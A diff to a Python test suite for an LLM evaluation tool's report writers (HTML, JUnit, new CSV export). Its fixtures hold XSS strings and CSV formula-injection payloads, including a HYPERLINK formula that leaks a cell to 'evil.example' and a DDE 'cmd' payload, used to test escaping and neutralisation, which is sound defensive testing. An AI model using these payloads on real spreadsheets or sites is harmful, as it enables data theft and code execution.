@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -12,6 +13,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from command_line import Project
 from rich.console import Console
 
 from localeval.backends.base import Fingerprint
@@ -28,6 +30,7 @@ from localeval.data.results import (
 from localeval.errors import InputError
 from localeval.metrics import AnswerRelevancy, Composite, Faithfulness
 from localeval.reports import (
+    FORMATS,
     REPORT_FILES,
     cases_jsonl,
     junit_xml,
@@ -35,6 +38,7 @@ from localeval.reports import (
     render_html,
     write_reports,
 )
+from localeval.reports.results_csv import results_csv
 from localeval.reports.rules import failure_message, pass_rule
 from localeval.reports.svg import bin_counts, histogram
 from localeval.run.runner import evaluate
@@ -42,6 +46,7 @@ from localeval.testing import ScriptedJudge
 
 XSS = "<script>alert(1)</script>"
 CLOSER = "</script><b>bold</b>"
+SVG = "<svg onload=alert(2)>"
 
 GEVAL_DETAILS = {
     "method": "logprobs",
@@ -83,13 +88,14 @@ def mr(metric: str, kind: str, score: float | None, passed: bool | None, *, thre
 def sample_report() -> RunReport:
     """Four cases × four metrics: G-Eval, faithfulness, hallucination (lower is better), a DAG."""
     rows = [
-        ("capital", {"input": "Capital of France?", "actual_output": "Paris.",
-                     "retrieval_context": ["Paris is the capital.", "Lyon is a city."], "tags": ["geo"]},
+        ("capital", {"input": "Capital of France?", "expected_output": "Paris", "name": "capital",
+                     "retrieval_context": ["Paris is the capital.", "Lyon is a city."], "tags": ["geo"],
+                     "actual_output": "Paris."},
          [mr("correctness", "geval", 0.55, True, reason="Close enough.", details=GEVAL_DETAILS),
           mr("faithfulness", "faithfulness", 1.0, True, details=FAITH_DETAILS),
           mr("hallucination", "hallucination", 0.0, True),
           mr("route", "dag", 0.8, True, details=DAG_DETAILS)]),
-        ("xss", {"input": XSS, "actual_output": CLOSER},
+        ("xss", {"input": XSS, "actual_output": CLOSER, "expected_output": SVG},
          [mr("correctness", "geval", 0.31, False, reason=f"Bad: {XSS} & {CLOSER}", details=GEVAL_DETAILS),
           mr("faithfulness", "faithfulness", None, None, error=f"MetricInputError: no retrieval_context {XSS}"),
           mr("hallucination", "hallucination", 0.75, False, reason="Contradicts\x00 the context."),
@@ -189,6 +195,52 @@ def test_html_header_names_the_run_and_the_backend(page: str) -> None:
         assert re.search(f"<dt>{name}</dt><dd[^>]*>{re.escape(value)}</dd>", page), name
 
 
+def test_an_opened_case_shows_input_output_and_expected_output_before_name_and_tags(page: str) -> None:
+    case = page.split('id="case-1"', 1)[1].split('<section class="results">', 1)[0]
+    assert re.findall(r"<dt>([^<]*)</dt>", case) == [
+        "input", "actual_output", "expected_output", "name", "tags", "retrieval_context"]
+
+
+def test_html_header_folds_the_fingerprints_under_one_line_naming_the_judge(page: str) -> None:
+    header = page.split("<main>", 1)[0]
+    shown, folded = header.split('<details class="fingerprints">', 1)
+    assert folded.startswith("<summary>judge tiny-model (llama.cpp) · fingerprints</summary>")
+    assert "sha256" not in shown and "runtime" not in shown and "<dt>model calls</dt>" in shown
+    assert re.search(r"<dt>model sha256</dt><dd[^>]*>a{64}</dd>", folded.split("</details>", 1)[0])
+
+
+def test_html_header_names_named_judges_and_escapes_their_fingerprints() -> None:
+    judge = Fingerprint(kind="openai", model=XSS, runtime="srv", settings={"temperature": 0})
+    report = sample_report().model_copy(update={"backend": None, "judges": {"strict": judge}})
+    header = render_html(report).split("<main>", 1)[0]
+    assert "<summary>1 named judge · fingerprints</summary>" in header
+    assert "<dt>judge strict: model</dt><dd>&lt;script&gt;alert(1)&lt;/script&gt;</dd>" in header
+    assert "<dt>judge strict: setting temperature</dt><dd>0</dd>" in header
+    assert 'class="fingerprints"' not in render_html(sample_report().model_copy(update={"backend": None}))  # none
+
+
+def test_html_summary_gives_each_figure_its_95_percent_interval(page: str) -> None:
+    # correctness: 3 of 4 passed; Wilson's interval for 3/4 is [0.3006, 0.9544]. Its four scores are too
+    # few to resample (stats.MIN_VALUES): the mean stands alone.
+    card = page.split("<h3>correctness", 1)[1].split("</article>", 1)[0]
+    assert ('<b>75%</b><span class="ci" title="95% confidence interval (wilson)">[30–95]</span>'
+            "<small>pass rate</small>") in card
+    assert "<b>0.690</b><small>mean score</small>" in card
+    twelve = [mr("m", "geval", score, score >= 0.5) for score in (0.2, 0.4, 0.6, 0.9) * 3]
+    case = CaseResult(index=0, results=twelve)
+    summary = MetricSummary.of("m", twelve)
+    mean = render_html(sample_report().model_copy(update={"cases": [case], "summary": [summary]}))
+    assert ('<b>0.525</b><span class="ci" title="95% confidence interval (bootstrap BCa)">[0.392–0.677]</span>'
+            "<small>mean score</small>") in mean  # seeded: the same interval on every machine
+
+
+def test_html_of_a_report_without_intervals_shows_the_figures_alone() -> None:
+    report = sample_report()
+    older = [s.model_copy(update={"pass_rate_interval": None, "mean_score_interval": None}) for s in report.summary]
+    card = render_html(report.model_copy(update={"summary": older})).split("<h3>correctness", 1)[1]
+    assert card.split("</article>", 1)[0].count('class="ci"') == 0 and "<b>75%</b><small>pass rate</small>" in card
+
+
 def test_html_summary_has_a_histogram_per_metric_and_the_rule(page: str) -> None:
     assert page.count('aria-label="score histogram') == 4
     assert "passes at score ≤ 0.5" in page  # hallucination: lower is better
@@ -240,6 +292,16 @@ def test_junit_has_a_suite_per_metric_with_counts() -> None:
     assert properties["metric_kind"] == "dag"
 
 
+def test_junit_properties_give_the_figures_and_their_intervals() -> None:
+    root = ET.fromstring(junit_xml(sample_report()))
+    found = root.findall("testsuite[@name='correctness']/properties/property")
+    properties = {str(p.get("name")): str(p.get("value")) for p in found}
+    # Wilson's 3 of 4: [0.3006, 0.9544]; four scores are too few for the mean's (stats.MIN_VALUES)
+    assert (properties["pass_rate"], properties["pass_rate_ci95_low"], properties["pass_rate_ci95_high"]) == (
+        "0.75", "0.300642", "0.954413")
+    assert properties["mean_score"] == "0.69" and "mean_score_ci95_low" not in properties
+
+
 def test_junit_testcases_say_why_they_failed_or_errored() -> None:
     root = ET.fromstring(junit_xml(sample_report()))
     cases = root.findall("testsuite[@name='hallucination']/testcase")
@@ -286,6 +348,83 @@ def test_read_cases_names_the_line_at_fault(tmp_path: Path) -> None:
         read_cases(path)
     with pytest.raises(InputError, match="cannot read cases"):
         read_cases(tmp_path / "absent.jsonl")
+
+
+# --- CSV ---------------------------------------------------------------------------------
+
+
+def read_csv(text: str) -> list[dict[str, str]]:
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+def test_csv_has_a_row_per_case_and_metric_that_reads_back(tmp_path: Path) -> None:
+    path = tmp_path / "results.csv"
+    write_reports(sample_report(), copies={"csv": path})
+    text = path.read_bytes().decode("utf-8")  # as written: read_text would turn its \r\n into \n
+    assert text.startswith("case,name,location,metric,score,threshold,passes_at,passed,errored,error,reason,"
+                           "input,actual_output,expected_output\r\n")  # no target column: the run had none
+    rows = read_csv(text)
+    assert len(rows) == 16
+    assert rows[0] == {"case": "1", "name": "capital", "location": "data.jsonl:1", "metric": "correctness",
+                       "score": "0.55", "threshold": "0.5", "passes_at": ">=", "passed": "true", "errored": "false",
+                       "error": "", "reason": "Close enough.", "input": "Capital of France?",
+                       "actual_output": "Paris.", "expected_output": "Paris"}
+    errored = rows[5]  # case 2, faithfulness
+    assert (errored["passed"], errored["errored"], errored["score"]) == ("", "true", "")
+    assert errored["error"] == f"MetricInputError: no retrieval_context {XSS}"
+    assert rows[6]["passes_at"] == "<=" and rows[6]["reason"] == "Contradicts\x00 the context."  # NUL kept
+    assert rows[4]["actual_output"] == CLOSER and rows[4]["expected_output"] == SVG
+    assert rows[12]["name"] == "quotes \"'&" and rows[12]["input"] == "a \u2028 line separator"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(start: str) -> None:
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    inputs = {"input": formula, "actual_output": f"{start}1+1", "expected_output": "fine = fine"}
+    case = CaseResult(index=0, name=formula, inputs=inputs,
+                      results=[mr("m", "geval", 0.5, True, reason=f"{start}cmd|' /C calc'!A0")])
+    report = sample_report().model_copy(update={"cases": [case]})
+    (row,) = read_csv(results_csv(report))
+    assert row["input"] == row["name"] == "'" + formula
+    assert row["actual_output"] == f"'{start}1+1" and row["reason"].startswith(f"'{start}cmd")
+    assert row["expected_output"] == "fine = fine"  # only a leading character is a risk
+
+
+def test_csv_has_a_target_column_when_the_run_had_targets() -> None:
+    report = sample_report()
+    cases = [c.model_copy(update={"target": name}) for c, name in zip(report.cases[:2], ["small", "large"])]
+    rows = read_csv(results_csv(report.model_copy(update={"cases": cases})))
+    assert [(r["case"], r["target"]) for r in rows[::4]] == [("1", "small"), ("2", "large")]
+
+
+def test_run_and_report_write_the_csv_where_asked(project: Project) -> None:
+    project.write("cases.jsonl", '{"name": "a", "input": "q", "actual_output": "=1+1", "expected_output": "2"}\n')
+    done = project.localeval("run", "cases.jsonl", "-m", "exact_match", "--run-dir", "run", "--csv", "out/r.csv")
+    assert done.returncode == 1, done.stderr  # "=1+1" is not "2"
+    copy = read_csv((project / "out" / "r.csv").read_bytes().decode())
+    assert [(r["name"], r["actual_output"], r["passed"]) for r in copy] == [("a", "'=1+1", "false")]
+    assert (project / "run" / "results.csv").read_bytes() == (project / "out" / "r.csv").read_bytes()
+    again = project.localeval("report", "run", "--csv", "again.csv")
+    assert again.returncode == 0 and again.stdout.split() == ["again.csv"], again.stderr  # only the copy
+    assert (project / "again.csv").read_bytes() == (project / "out" / "r.csv").read_bytes()
+
+
+def test_every_report_copy_the_cli_and_config_offer_is_a_registered_format() -> None:
+    from localeval.cli.settings import CommandLine
+    from localeval.config import ReportConfig
+
+    assert set(CommandLine().copies()) == set(ReportConfig().copies()) == set(FORMATS) - {"cases"}
+    flags = {opt for param in click_command("run").params for opt in param.opts}
+    assert {f"--{name}" for name in FORMATS if name not in ("json", "cases")} <= flags  # json: --report
+
+
+def click_command(name: str) -> Any:
+    import typer
+
+    from localeval.cli.app import app
+
+    return typer.main.get_command(app).commands[name]  # type: ignore[attr-defined]
 
 
 # --- write_reports ----------------------------------------------------------------------
